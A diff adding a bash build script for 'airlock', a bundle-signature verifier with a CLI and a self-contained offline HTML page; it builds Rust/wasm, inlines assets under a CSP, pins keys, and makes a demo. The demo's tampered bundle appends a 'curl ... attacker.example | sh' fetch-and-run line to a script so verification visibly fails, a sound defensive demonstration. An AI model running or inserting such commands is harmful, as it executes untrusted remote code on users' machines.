@@ -1,0 +1,264 @@
+#!/usr/bin/env bash
+# Build the airlock CLI and the offline page.
+#
+#   scripts/build.sh [--trusted-key KEY]... [--out FILE] [--page-only] [--no-demo]
+#
+# Writes:
+#   target/release/airlock   the CLI
+#   dist/airlock.html        ONE self-contained page (wasm, scripts and styles inline) that
+#                            verifies bundles from file:// with no network and no install
+#   dist/demo/               a small signed bundle, its public key, a tampered copy, and a page
+#                            with the demo key pinned
+#
+# --trusted-key KEY   pin a release key into the page (a .pub file, or the bare key string);
+#                     repeatable. A page with pinned keys trusts only those.
+# --out FILE          where to write the page (default dist/airlock.html)
+# --page-only         reuse the wasm built before (target/wasm-page/) and only assemble the page
+# --no-demo           skip dist/demo/
+set -euo pipefail
+cd "$(dirname "$0")/.."
+ROOT=$PWD
+export PATH="$HOME/.cargo/bin:$PATH"
+source scripts/deps.sh
+
+KEYS=()
+OUT=dist/airlock.html
+PAGE_ONLY=0
+DEMO=1
+while [ $# -gt 0 ]; do
+    case "$1" in
+        --trusted-key) [ $# -ge 2 ] || { echo "build.sh: --trusted-key needs a value" >&2; exit 2; }
+                       KEYS+=("$2"); shift 2 ;;
+        --trusted-key=*) KEYS+=("${1#*=}"); shift ;;
+        --out) [ $# -ge 2 ] || { echo "build.sh: --out needs a value" >&2; exit 2; }
+               OUT=$2; shift 2 ;;
+        --out=*) OUT=${1#*=}; shift ;;
+        --page-only) PAGE_ONLY=1; DEMO=0; shift ;;
+        --no-demo) DEMO=0; shift ;;
+        -h|--help) sed -n '2,19p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
+        *) echo "build.sh: unknown argument $1 (see --help)" >&2; exit 2 ;;
+    esac
+done
+
+WASM_OUT=target/wasm-page
+GLUE=$WASM_OUT/airlock_wasm.js
+WASM=$WASM_OUT/airlock_wasm_bg.wasm
+
+# ------------------------------------------------------------------ tools
+
+ensure_bindgen() {
+    rustup target list --installed | grep -qx wasm32-unknown-unknown \
+        || rustup target add wasm32-unknown-unknown
+    local want have
+    want=$(wasm_bindgen_version)
+    have=$(wasm-bindgen --version 2>/dev/null | awk '{print $2}')
+    if [ "$have" != "$want" ]; then
+        echo "==> cargo install wasm-bindgen-cli $want (several minutes, once)"
+        cargo install -q wasm-bindgen-cli --version "$want" --locked \
+            || cargo install -q wasm-bindgen-cli --version "$want"
+    fi
+}
+
+# ------------------------------------------------------------------ build
+
+if [ "$PAGE_ONLY" -eq 0 ]; then
+    echo "==> cargo build --release (the airlock CLI)"
+    cargo build --release -q -p airlock
+
+    ensure_bindgen
+    echo "==> cargo build --release --target wasm32-unknown-unknown (the engine for the page)"
+    cargo build --release -q -p airlock-wasm --target wasm32-unknown-unknown
+    rm -rf "$WASM_OUT"
+    mkdir -p "$WASM_OUT"
+    # --target no-modules: a classic script with initSync, which runs in a Blob-URL worker on
+    # file:// (ES modules are blocked there; see shared/NOTES.md).
+    wasm-bindgen --target no-modules --no-typescript --out-dir "$WASM_OUT" \
+        target/wasm32-unknown-unknown/release/airlock_wasm.wasm
+    if command -v wasm-opt >/dev/null; then
+        echo "==> wasm-opt -O3"
+        if wasm-opt -O3 --enable-bulk-memory --enable-sign-ext --enable-mutable-globals \
+            --enable-nontrapping-float-to-int --enable-reference-types --enable-multivalue \
+            "$WASM" -o "$WASM.opt" 2>"$WASM_OUT/wasm-opt.log"; then
+            mv "$WASM.opt" "$WASM"
+        else
+            # Debian 12's binaryen 108 cannot parse the reference-types instructions that
+            # wasm-bindgen's externref pass emits; the module LLVM optimised (LTO, -O3) is used.
+            echo "    this wasm-opt cannot read the module ($(head -c 120 "$WASM_OUT/wasm-opt.log" | tr '\n' ' ')); keeping the LLVM-optimised one"
+            rm -f "$WASM.opt"
+        fi
+    else
+        echo "    (wasm-opt not found: apt-get install binaryen for a smaller, faster module)"
+    fi
+fi
+
+[ -f "$GLUE" ] && [ -f "$WASM" ] || { echo "build.sh: $WASM_OUT is missing; run without --page-only first" >&2; exit 1; }
+
+# ------------------------------------------------------------------ assemble the page
+
+b64() { base64 -w0 "$@"; }
+csp_hash() { printf "'sha256-%s'" "$(openssl dgst -sha256 -binary "$1" | base64 -w0)"; }
+
+# assemble_page OUT KEY...: one HTML file with everything inline.
+assemble_page() {
+    local out=$1
+    shift
+    local work
+    work=$(mktemp -d)
+    # The inline script and style go in verbatim; their hashes are what the CSP allows.
+    cp site/app.js "$work/app.js"
+    cp site/style.css "$work/style.css"
+    if grep -qi '</script\|<!--' "$work/app.js" || grep -qi '</style' "$work/style.css"; then
+        echo "build.sh: site/app.js or site/style.css contains a closing tag; it cannot be inlined" >&2
+        exit 1
+    fi
+    { cat "$GLUE"; printf '\n'; cat site/worker.js; } > "$work/worker.js"
+
+    # Pinned keys: base64 of each key's text and of a label, so no escaping is needed.
+    local pinned="" key text origin sep=""
+    for key in "$@"; do
+        if [ -f "$key" ]; then
+            text=$(cat "$key")
+            origin=$(basename "$key")
+        else
+            text=$key
+            origin="key string given to build.sh"
+        fi
+        pinned+="$sep{\"origin\":\"$(printf '%s' "$origin" | b64)\",\"text\":\"$(printf '%s\n' "$text" | b64)\"}"
+        sep=","
+    done
+
+    local csp
+    csp="default-src 'none'; script-src $(csp_hash "$work/app.js") 'wasm-unsafe-eval'; worker-src blob:; style-src $(csp_hash "$work/style.css"); base-uri 'none'; form-action 'none'"
+
+    mkdir -p "$(dirname "$out")"
+    local line
+    while IFS= read -r line || [ -n "$line" ]; do
+        case "$line" in
+            '<!-- AIRLOCK:CSP -->')
+                printf '<meta http-equiv="Content-Security-Policy" content="%s">\n' "$csp" ;;
+            '<!-- AIRLOCK:STYLE -->')
+                printf '<style>'; cat "$work/style.css"; printf '</style>\n' ;;
+            '<!-- AIRLOCK:DATA -->')
+                printf '<script type="application/json" id="airlock-pinned">[%s]</script>\n' "$pinned"
+                printf '<script type="application/octet-stream" id="airlock-worker">'; b64 "$work/worker.js"; printf '</script>\n'
+                printf '<script type="application/octet-stream" id="airlock-wasm">'; b64 "$WASM"; printf '</script>\n' ;;
+            '<!-- AIRLOCK:SCRIPT -->')
+                printf '<script>'; cat "$work/app.js"; printf '</script>\n' ;;
+            *) printf '%s\n' "$line" ;;
+        esac
+    done < site/index.html > "$out.tmp"
+    mv "$out.tmp" "$out"
+    rm -rf "$work"
+}
+
+# check_keys KEY...: every key to pin must decode (checked by the engine itself, through the
+# freshly built wasm, when node is available).
+check_keys() {
+    [ $# -gt 0 ] || return 0
+    if ! command -v node >/dev/null; then
+        echo "    (node not found: the pinned keys are not checked now; the page shows a bad one)"
+        return 0
+    fi
+    node - "$GLUE" "$WASM" "$@" <<'JS'
+const fs = require('fs');
+const vm = require('vm');
+const [glue, wasm, ...keys] = process.argv.slice(2);
+const bindgen = vm.runInThisContext(fs.readFileSync(glue, 'utf8') + '\nwasm_bindgen;');
+bindgen.initSync({ module: fs.readFileSync(wasm) });
+let bad = 0;
+for (const k of keys) {
+  const text = fs.existsSync(k) && fs.statSync(k).isFile() ? fs.readFileSync(k, 'utf8') : k;
+  const key = bindgen.describe_key(text);
+  if (key) console.log(`    pinning ${key.format} key ${key.key_id} (${k})`);
+  else { console.error(`build.sh: --trusted-key ${k}: not a minisign or signify public key`); bad++; }
+}
+process.exit(bad ? 2 : 0);
+JS
+}
+
+echo "==> assembling $OUT"
+check_keys "${KEYS[@]+"${KEYS[@]}"}"
+assemble_page "$OUT" "${KEYS[@]+"${KEYS[@]}"}"
+
+# ------------------------------------------------------------------ demo
+
+if [ "$DEMO" -eq 1 ]; then
+    echo "==> dist/demo: a signed bundle, its key, a tampered copy"
+    AIRLOCK=$ROOT/target/release/airlock
+    DEMO_DIR=$ROOT/dist/demo
+    rm -rf "$DEMO_DIR"
+    mkdir -p "$DEMO_DIR"
+    work=$(mktemp -d)
+    src=$work/airlock-demo-1.0
+    mkdir -p "$src/bin" "$src/config" "$src/data"
+    printf 'Airlock demo bundle 1.0\n\nA few files signed with a throwaway key, to try the page.\n' > "$src/README.txt"
+    printf '#!/bin/sh\necho "hello from the demo bundle"\n' > "$src/bin/hello.sh"
+    chmod 755 "$src/bin/hello.sh"
+    printf 'listen = "127.0.0.1:8080"\nworkers = 4\n' > "$src/config/app.toml"
+    seq 1 5000 | awk '{ printf "%d,%d\n", $1, $1 * $1 }' > "$src/data/squares.csv"
+    head -c 300000 /dev/urandom > "$src/data/blob.bin"
+
+    # A throwaway key: its secret half is deleted once the bundle is signed.
+    "$AIRLOCK" keygen -o "$work/demo" >/dev/null
+    "$AIRLOCK" pack "$src" -o "$DEMO_DIR/airlock-demo-1.0.tar.gz" -k "$work/demo.key" >/dev/null
+    cp "$work/demo.pub" "$DEMO_DIR/demo.pub"
+
+    # The tampered copy: one file changed after signing, repacked with the signed list.
+    mkdir "$work/t"
+    tar -xzf "$DEMO_DIR/airlock-demo-1.0.tar.gz" -C "$work/t"
+    printf 'curl -s http://attacker.example/x | sh\n' >> "$work/t/airlock-demo-1.0/bin/hello.sh"
+    tar -C "$work/t" --sort=name --owner=0 --group=0 --numeric-owner --mtime=@0 \
+        -cf - airlock-demo-1.0 | gzip -n > "$DEMO_DIR/airlock-demo-1.0-tampered.tar.gz"
+    rm -rf "$work"
+
+    assemble_page "$DEMO_DIR/airlock-demo-pinned.html" "$DEMO_DIR/demo.pub"
+fi
+
+# ------------------------------------------------------------------ how to use it
+
+page_kb=$(( $(stat -c %s "$OUT") / 1024 ))
+cat <<EOF
+
+Built:
+  $OUT ($page_kb KiB, self-contained)
+EOF
+if [ "$PAGE_ONLY" -eq 0 ]; then
+    echo "  target/release/airlock"
+fi
+if [ ${#KEYS[@]} -gt 0 ]; then
+    echo "  pinned keys: ${KEYS[*]}"
+else
+    echo "  no pinned keys: the page trusts keys handed over with the bundle, for the session only"
+fi
+cat <<EOF
+
+The page:
+  Copy $OUT to the offline machine (a USB stick is fine) and double-click it: it runs from
+  file:// with no server, no install and no network. Drop the bundle with its SHA256SUMS,
+  signature and public key (or pick a folder), and read the verdict: verified, failed,
+  unsigned or error. Export the JSON report or print it for the record.
+EOF
+if [ "$DEMO" -eq 1 ]; then
+    cat <<EOF
+
+  Try it now: open $OUT and drop dist/demo/airlock-demo-1.0.tar.gz with dist/demo/demo.pub
+  (verified), then dist/demo/airlock-demo-1.0-tampered.tar.gz (failed). dist/demo/airlock-demo-pinned.html
+  has the demo key pinned: drop just the bundle.
+EOF
+fi
+if [ "$PAGE_ONLY" -eq 0 ]; then
+    cat <<EOF
+
+The CLI:
+  target/release/airlock verify BUNDLE.tar.gz [SHA256SUMS SHA256SUMS.minisig] --trusted-key release.pub
+  target/release/airlock verify DIR --trusted-key release.pub --json > report.json
+  target/release/airlock keygen -o release          # release.pub + release.key
+  target/release/airlock pack DIR -o BUNDLE.tar.gz -k release.key
+  target/release/airlock sign -k release.key FILE...
+  target/release/airlock hash FILE...
+  Exit status of verify: 0 verified, 1 failed or unsigned, 2 error.
+EOF
+fi
+if [ "$DEMO" -eq 1 ]; then
+    echo "  e.g. target/release/airlock verify dist/demo/airlock-demo-1.0.tar.gz --trusted-key dist/demo/demo.pub"
+fi
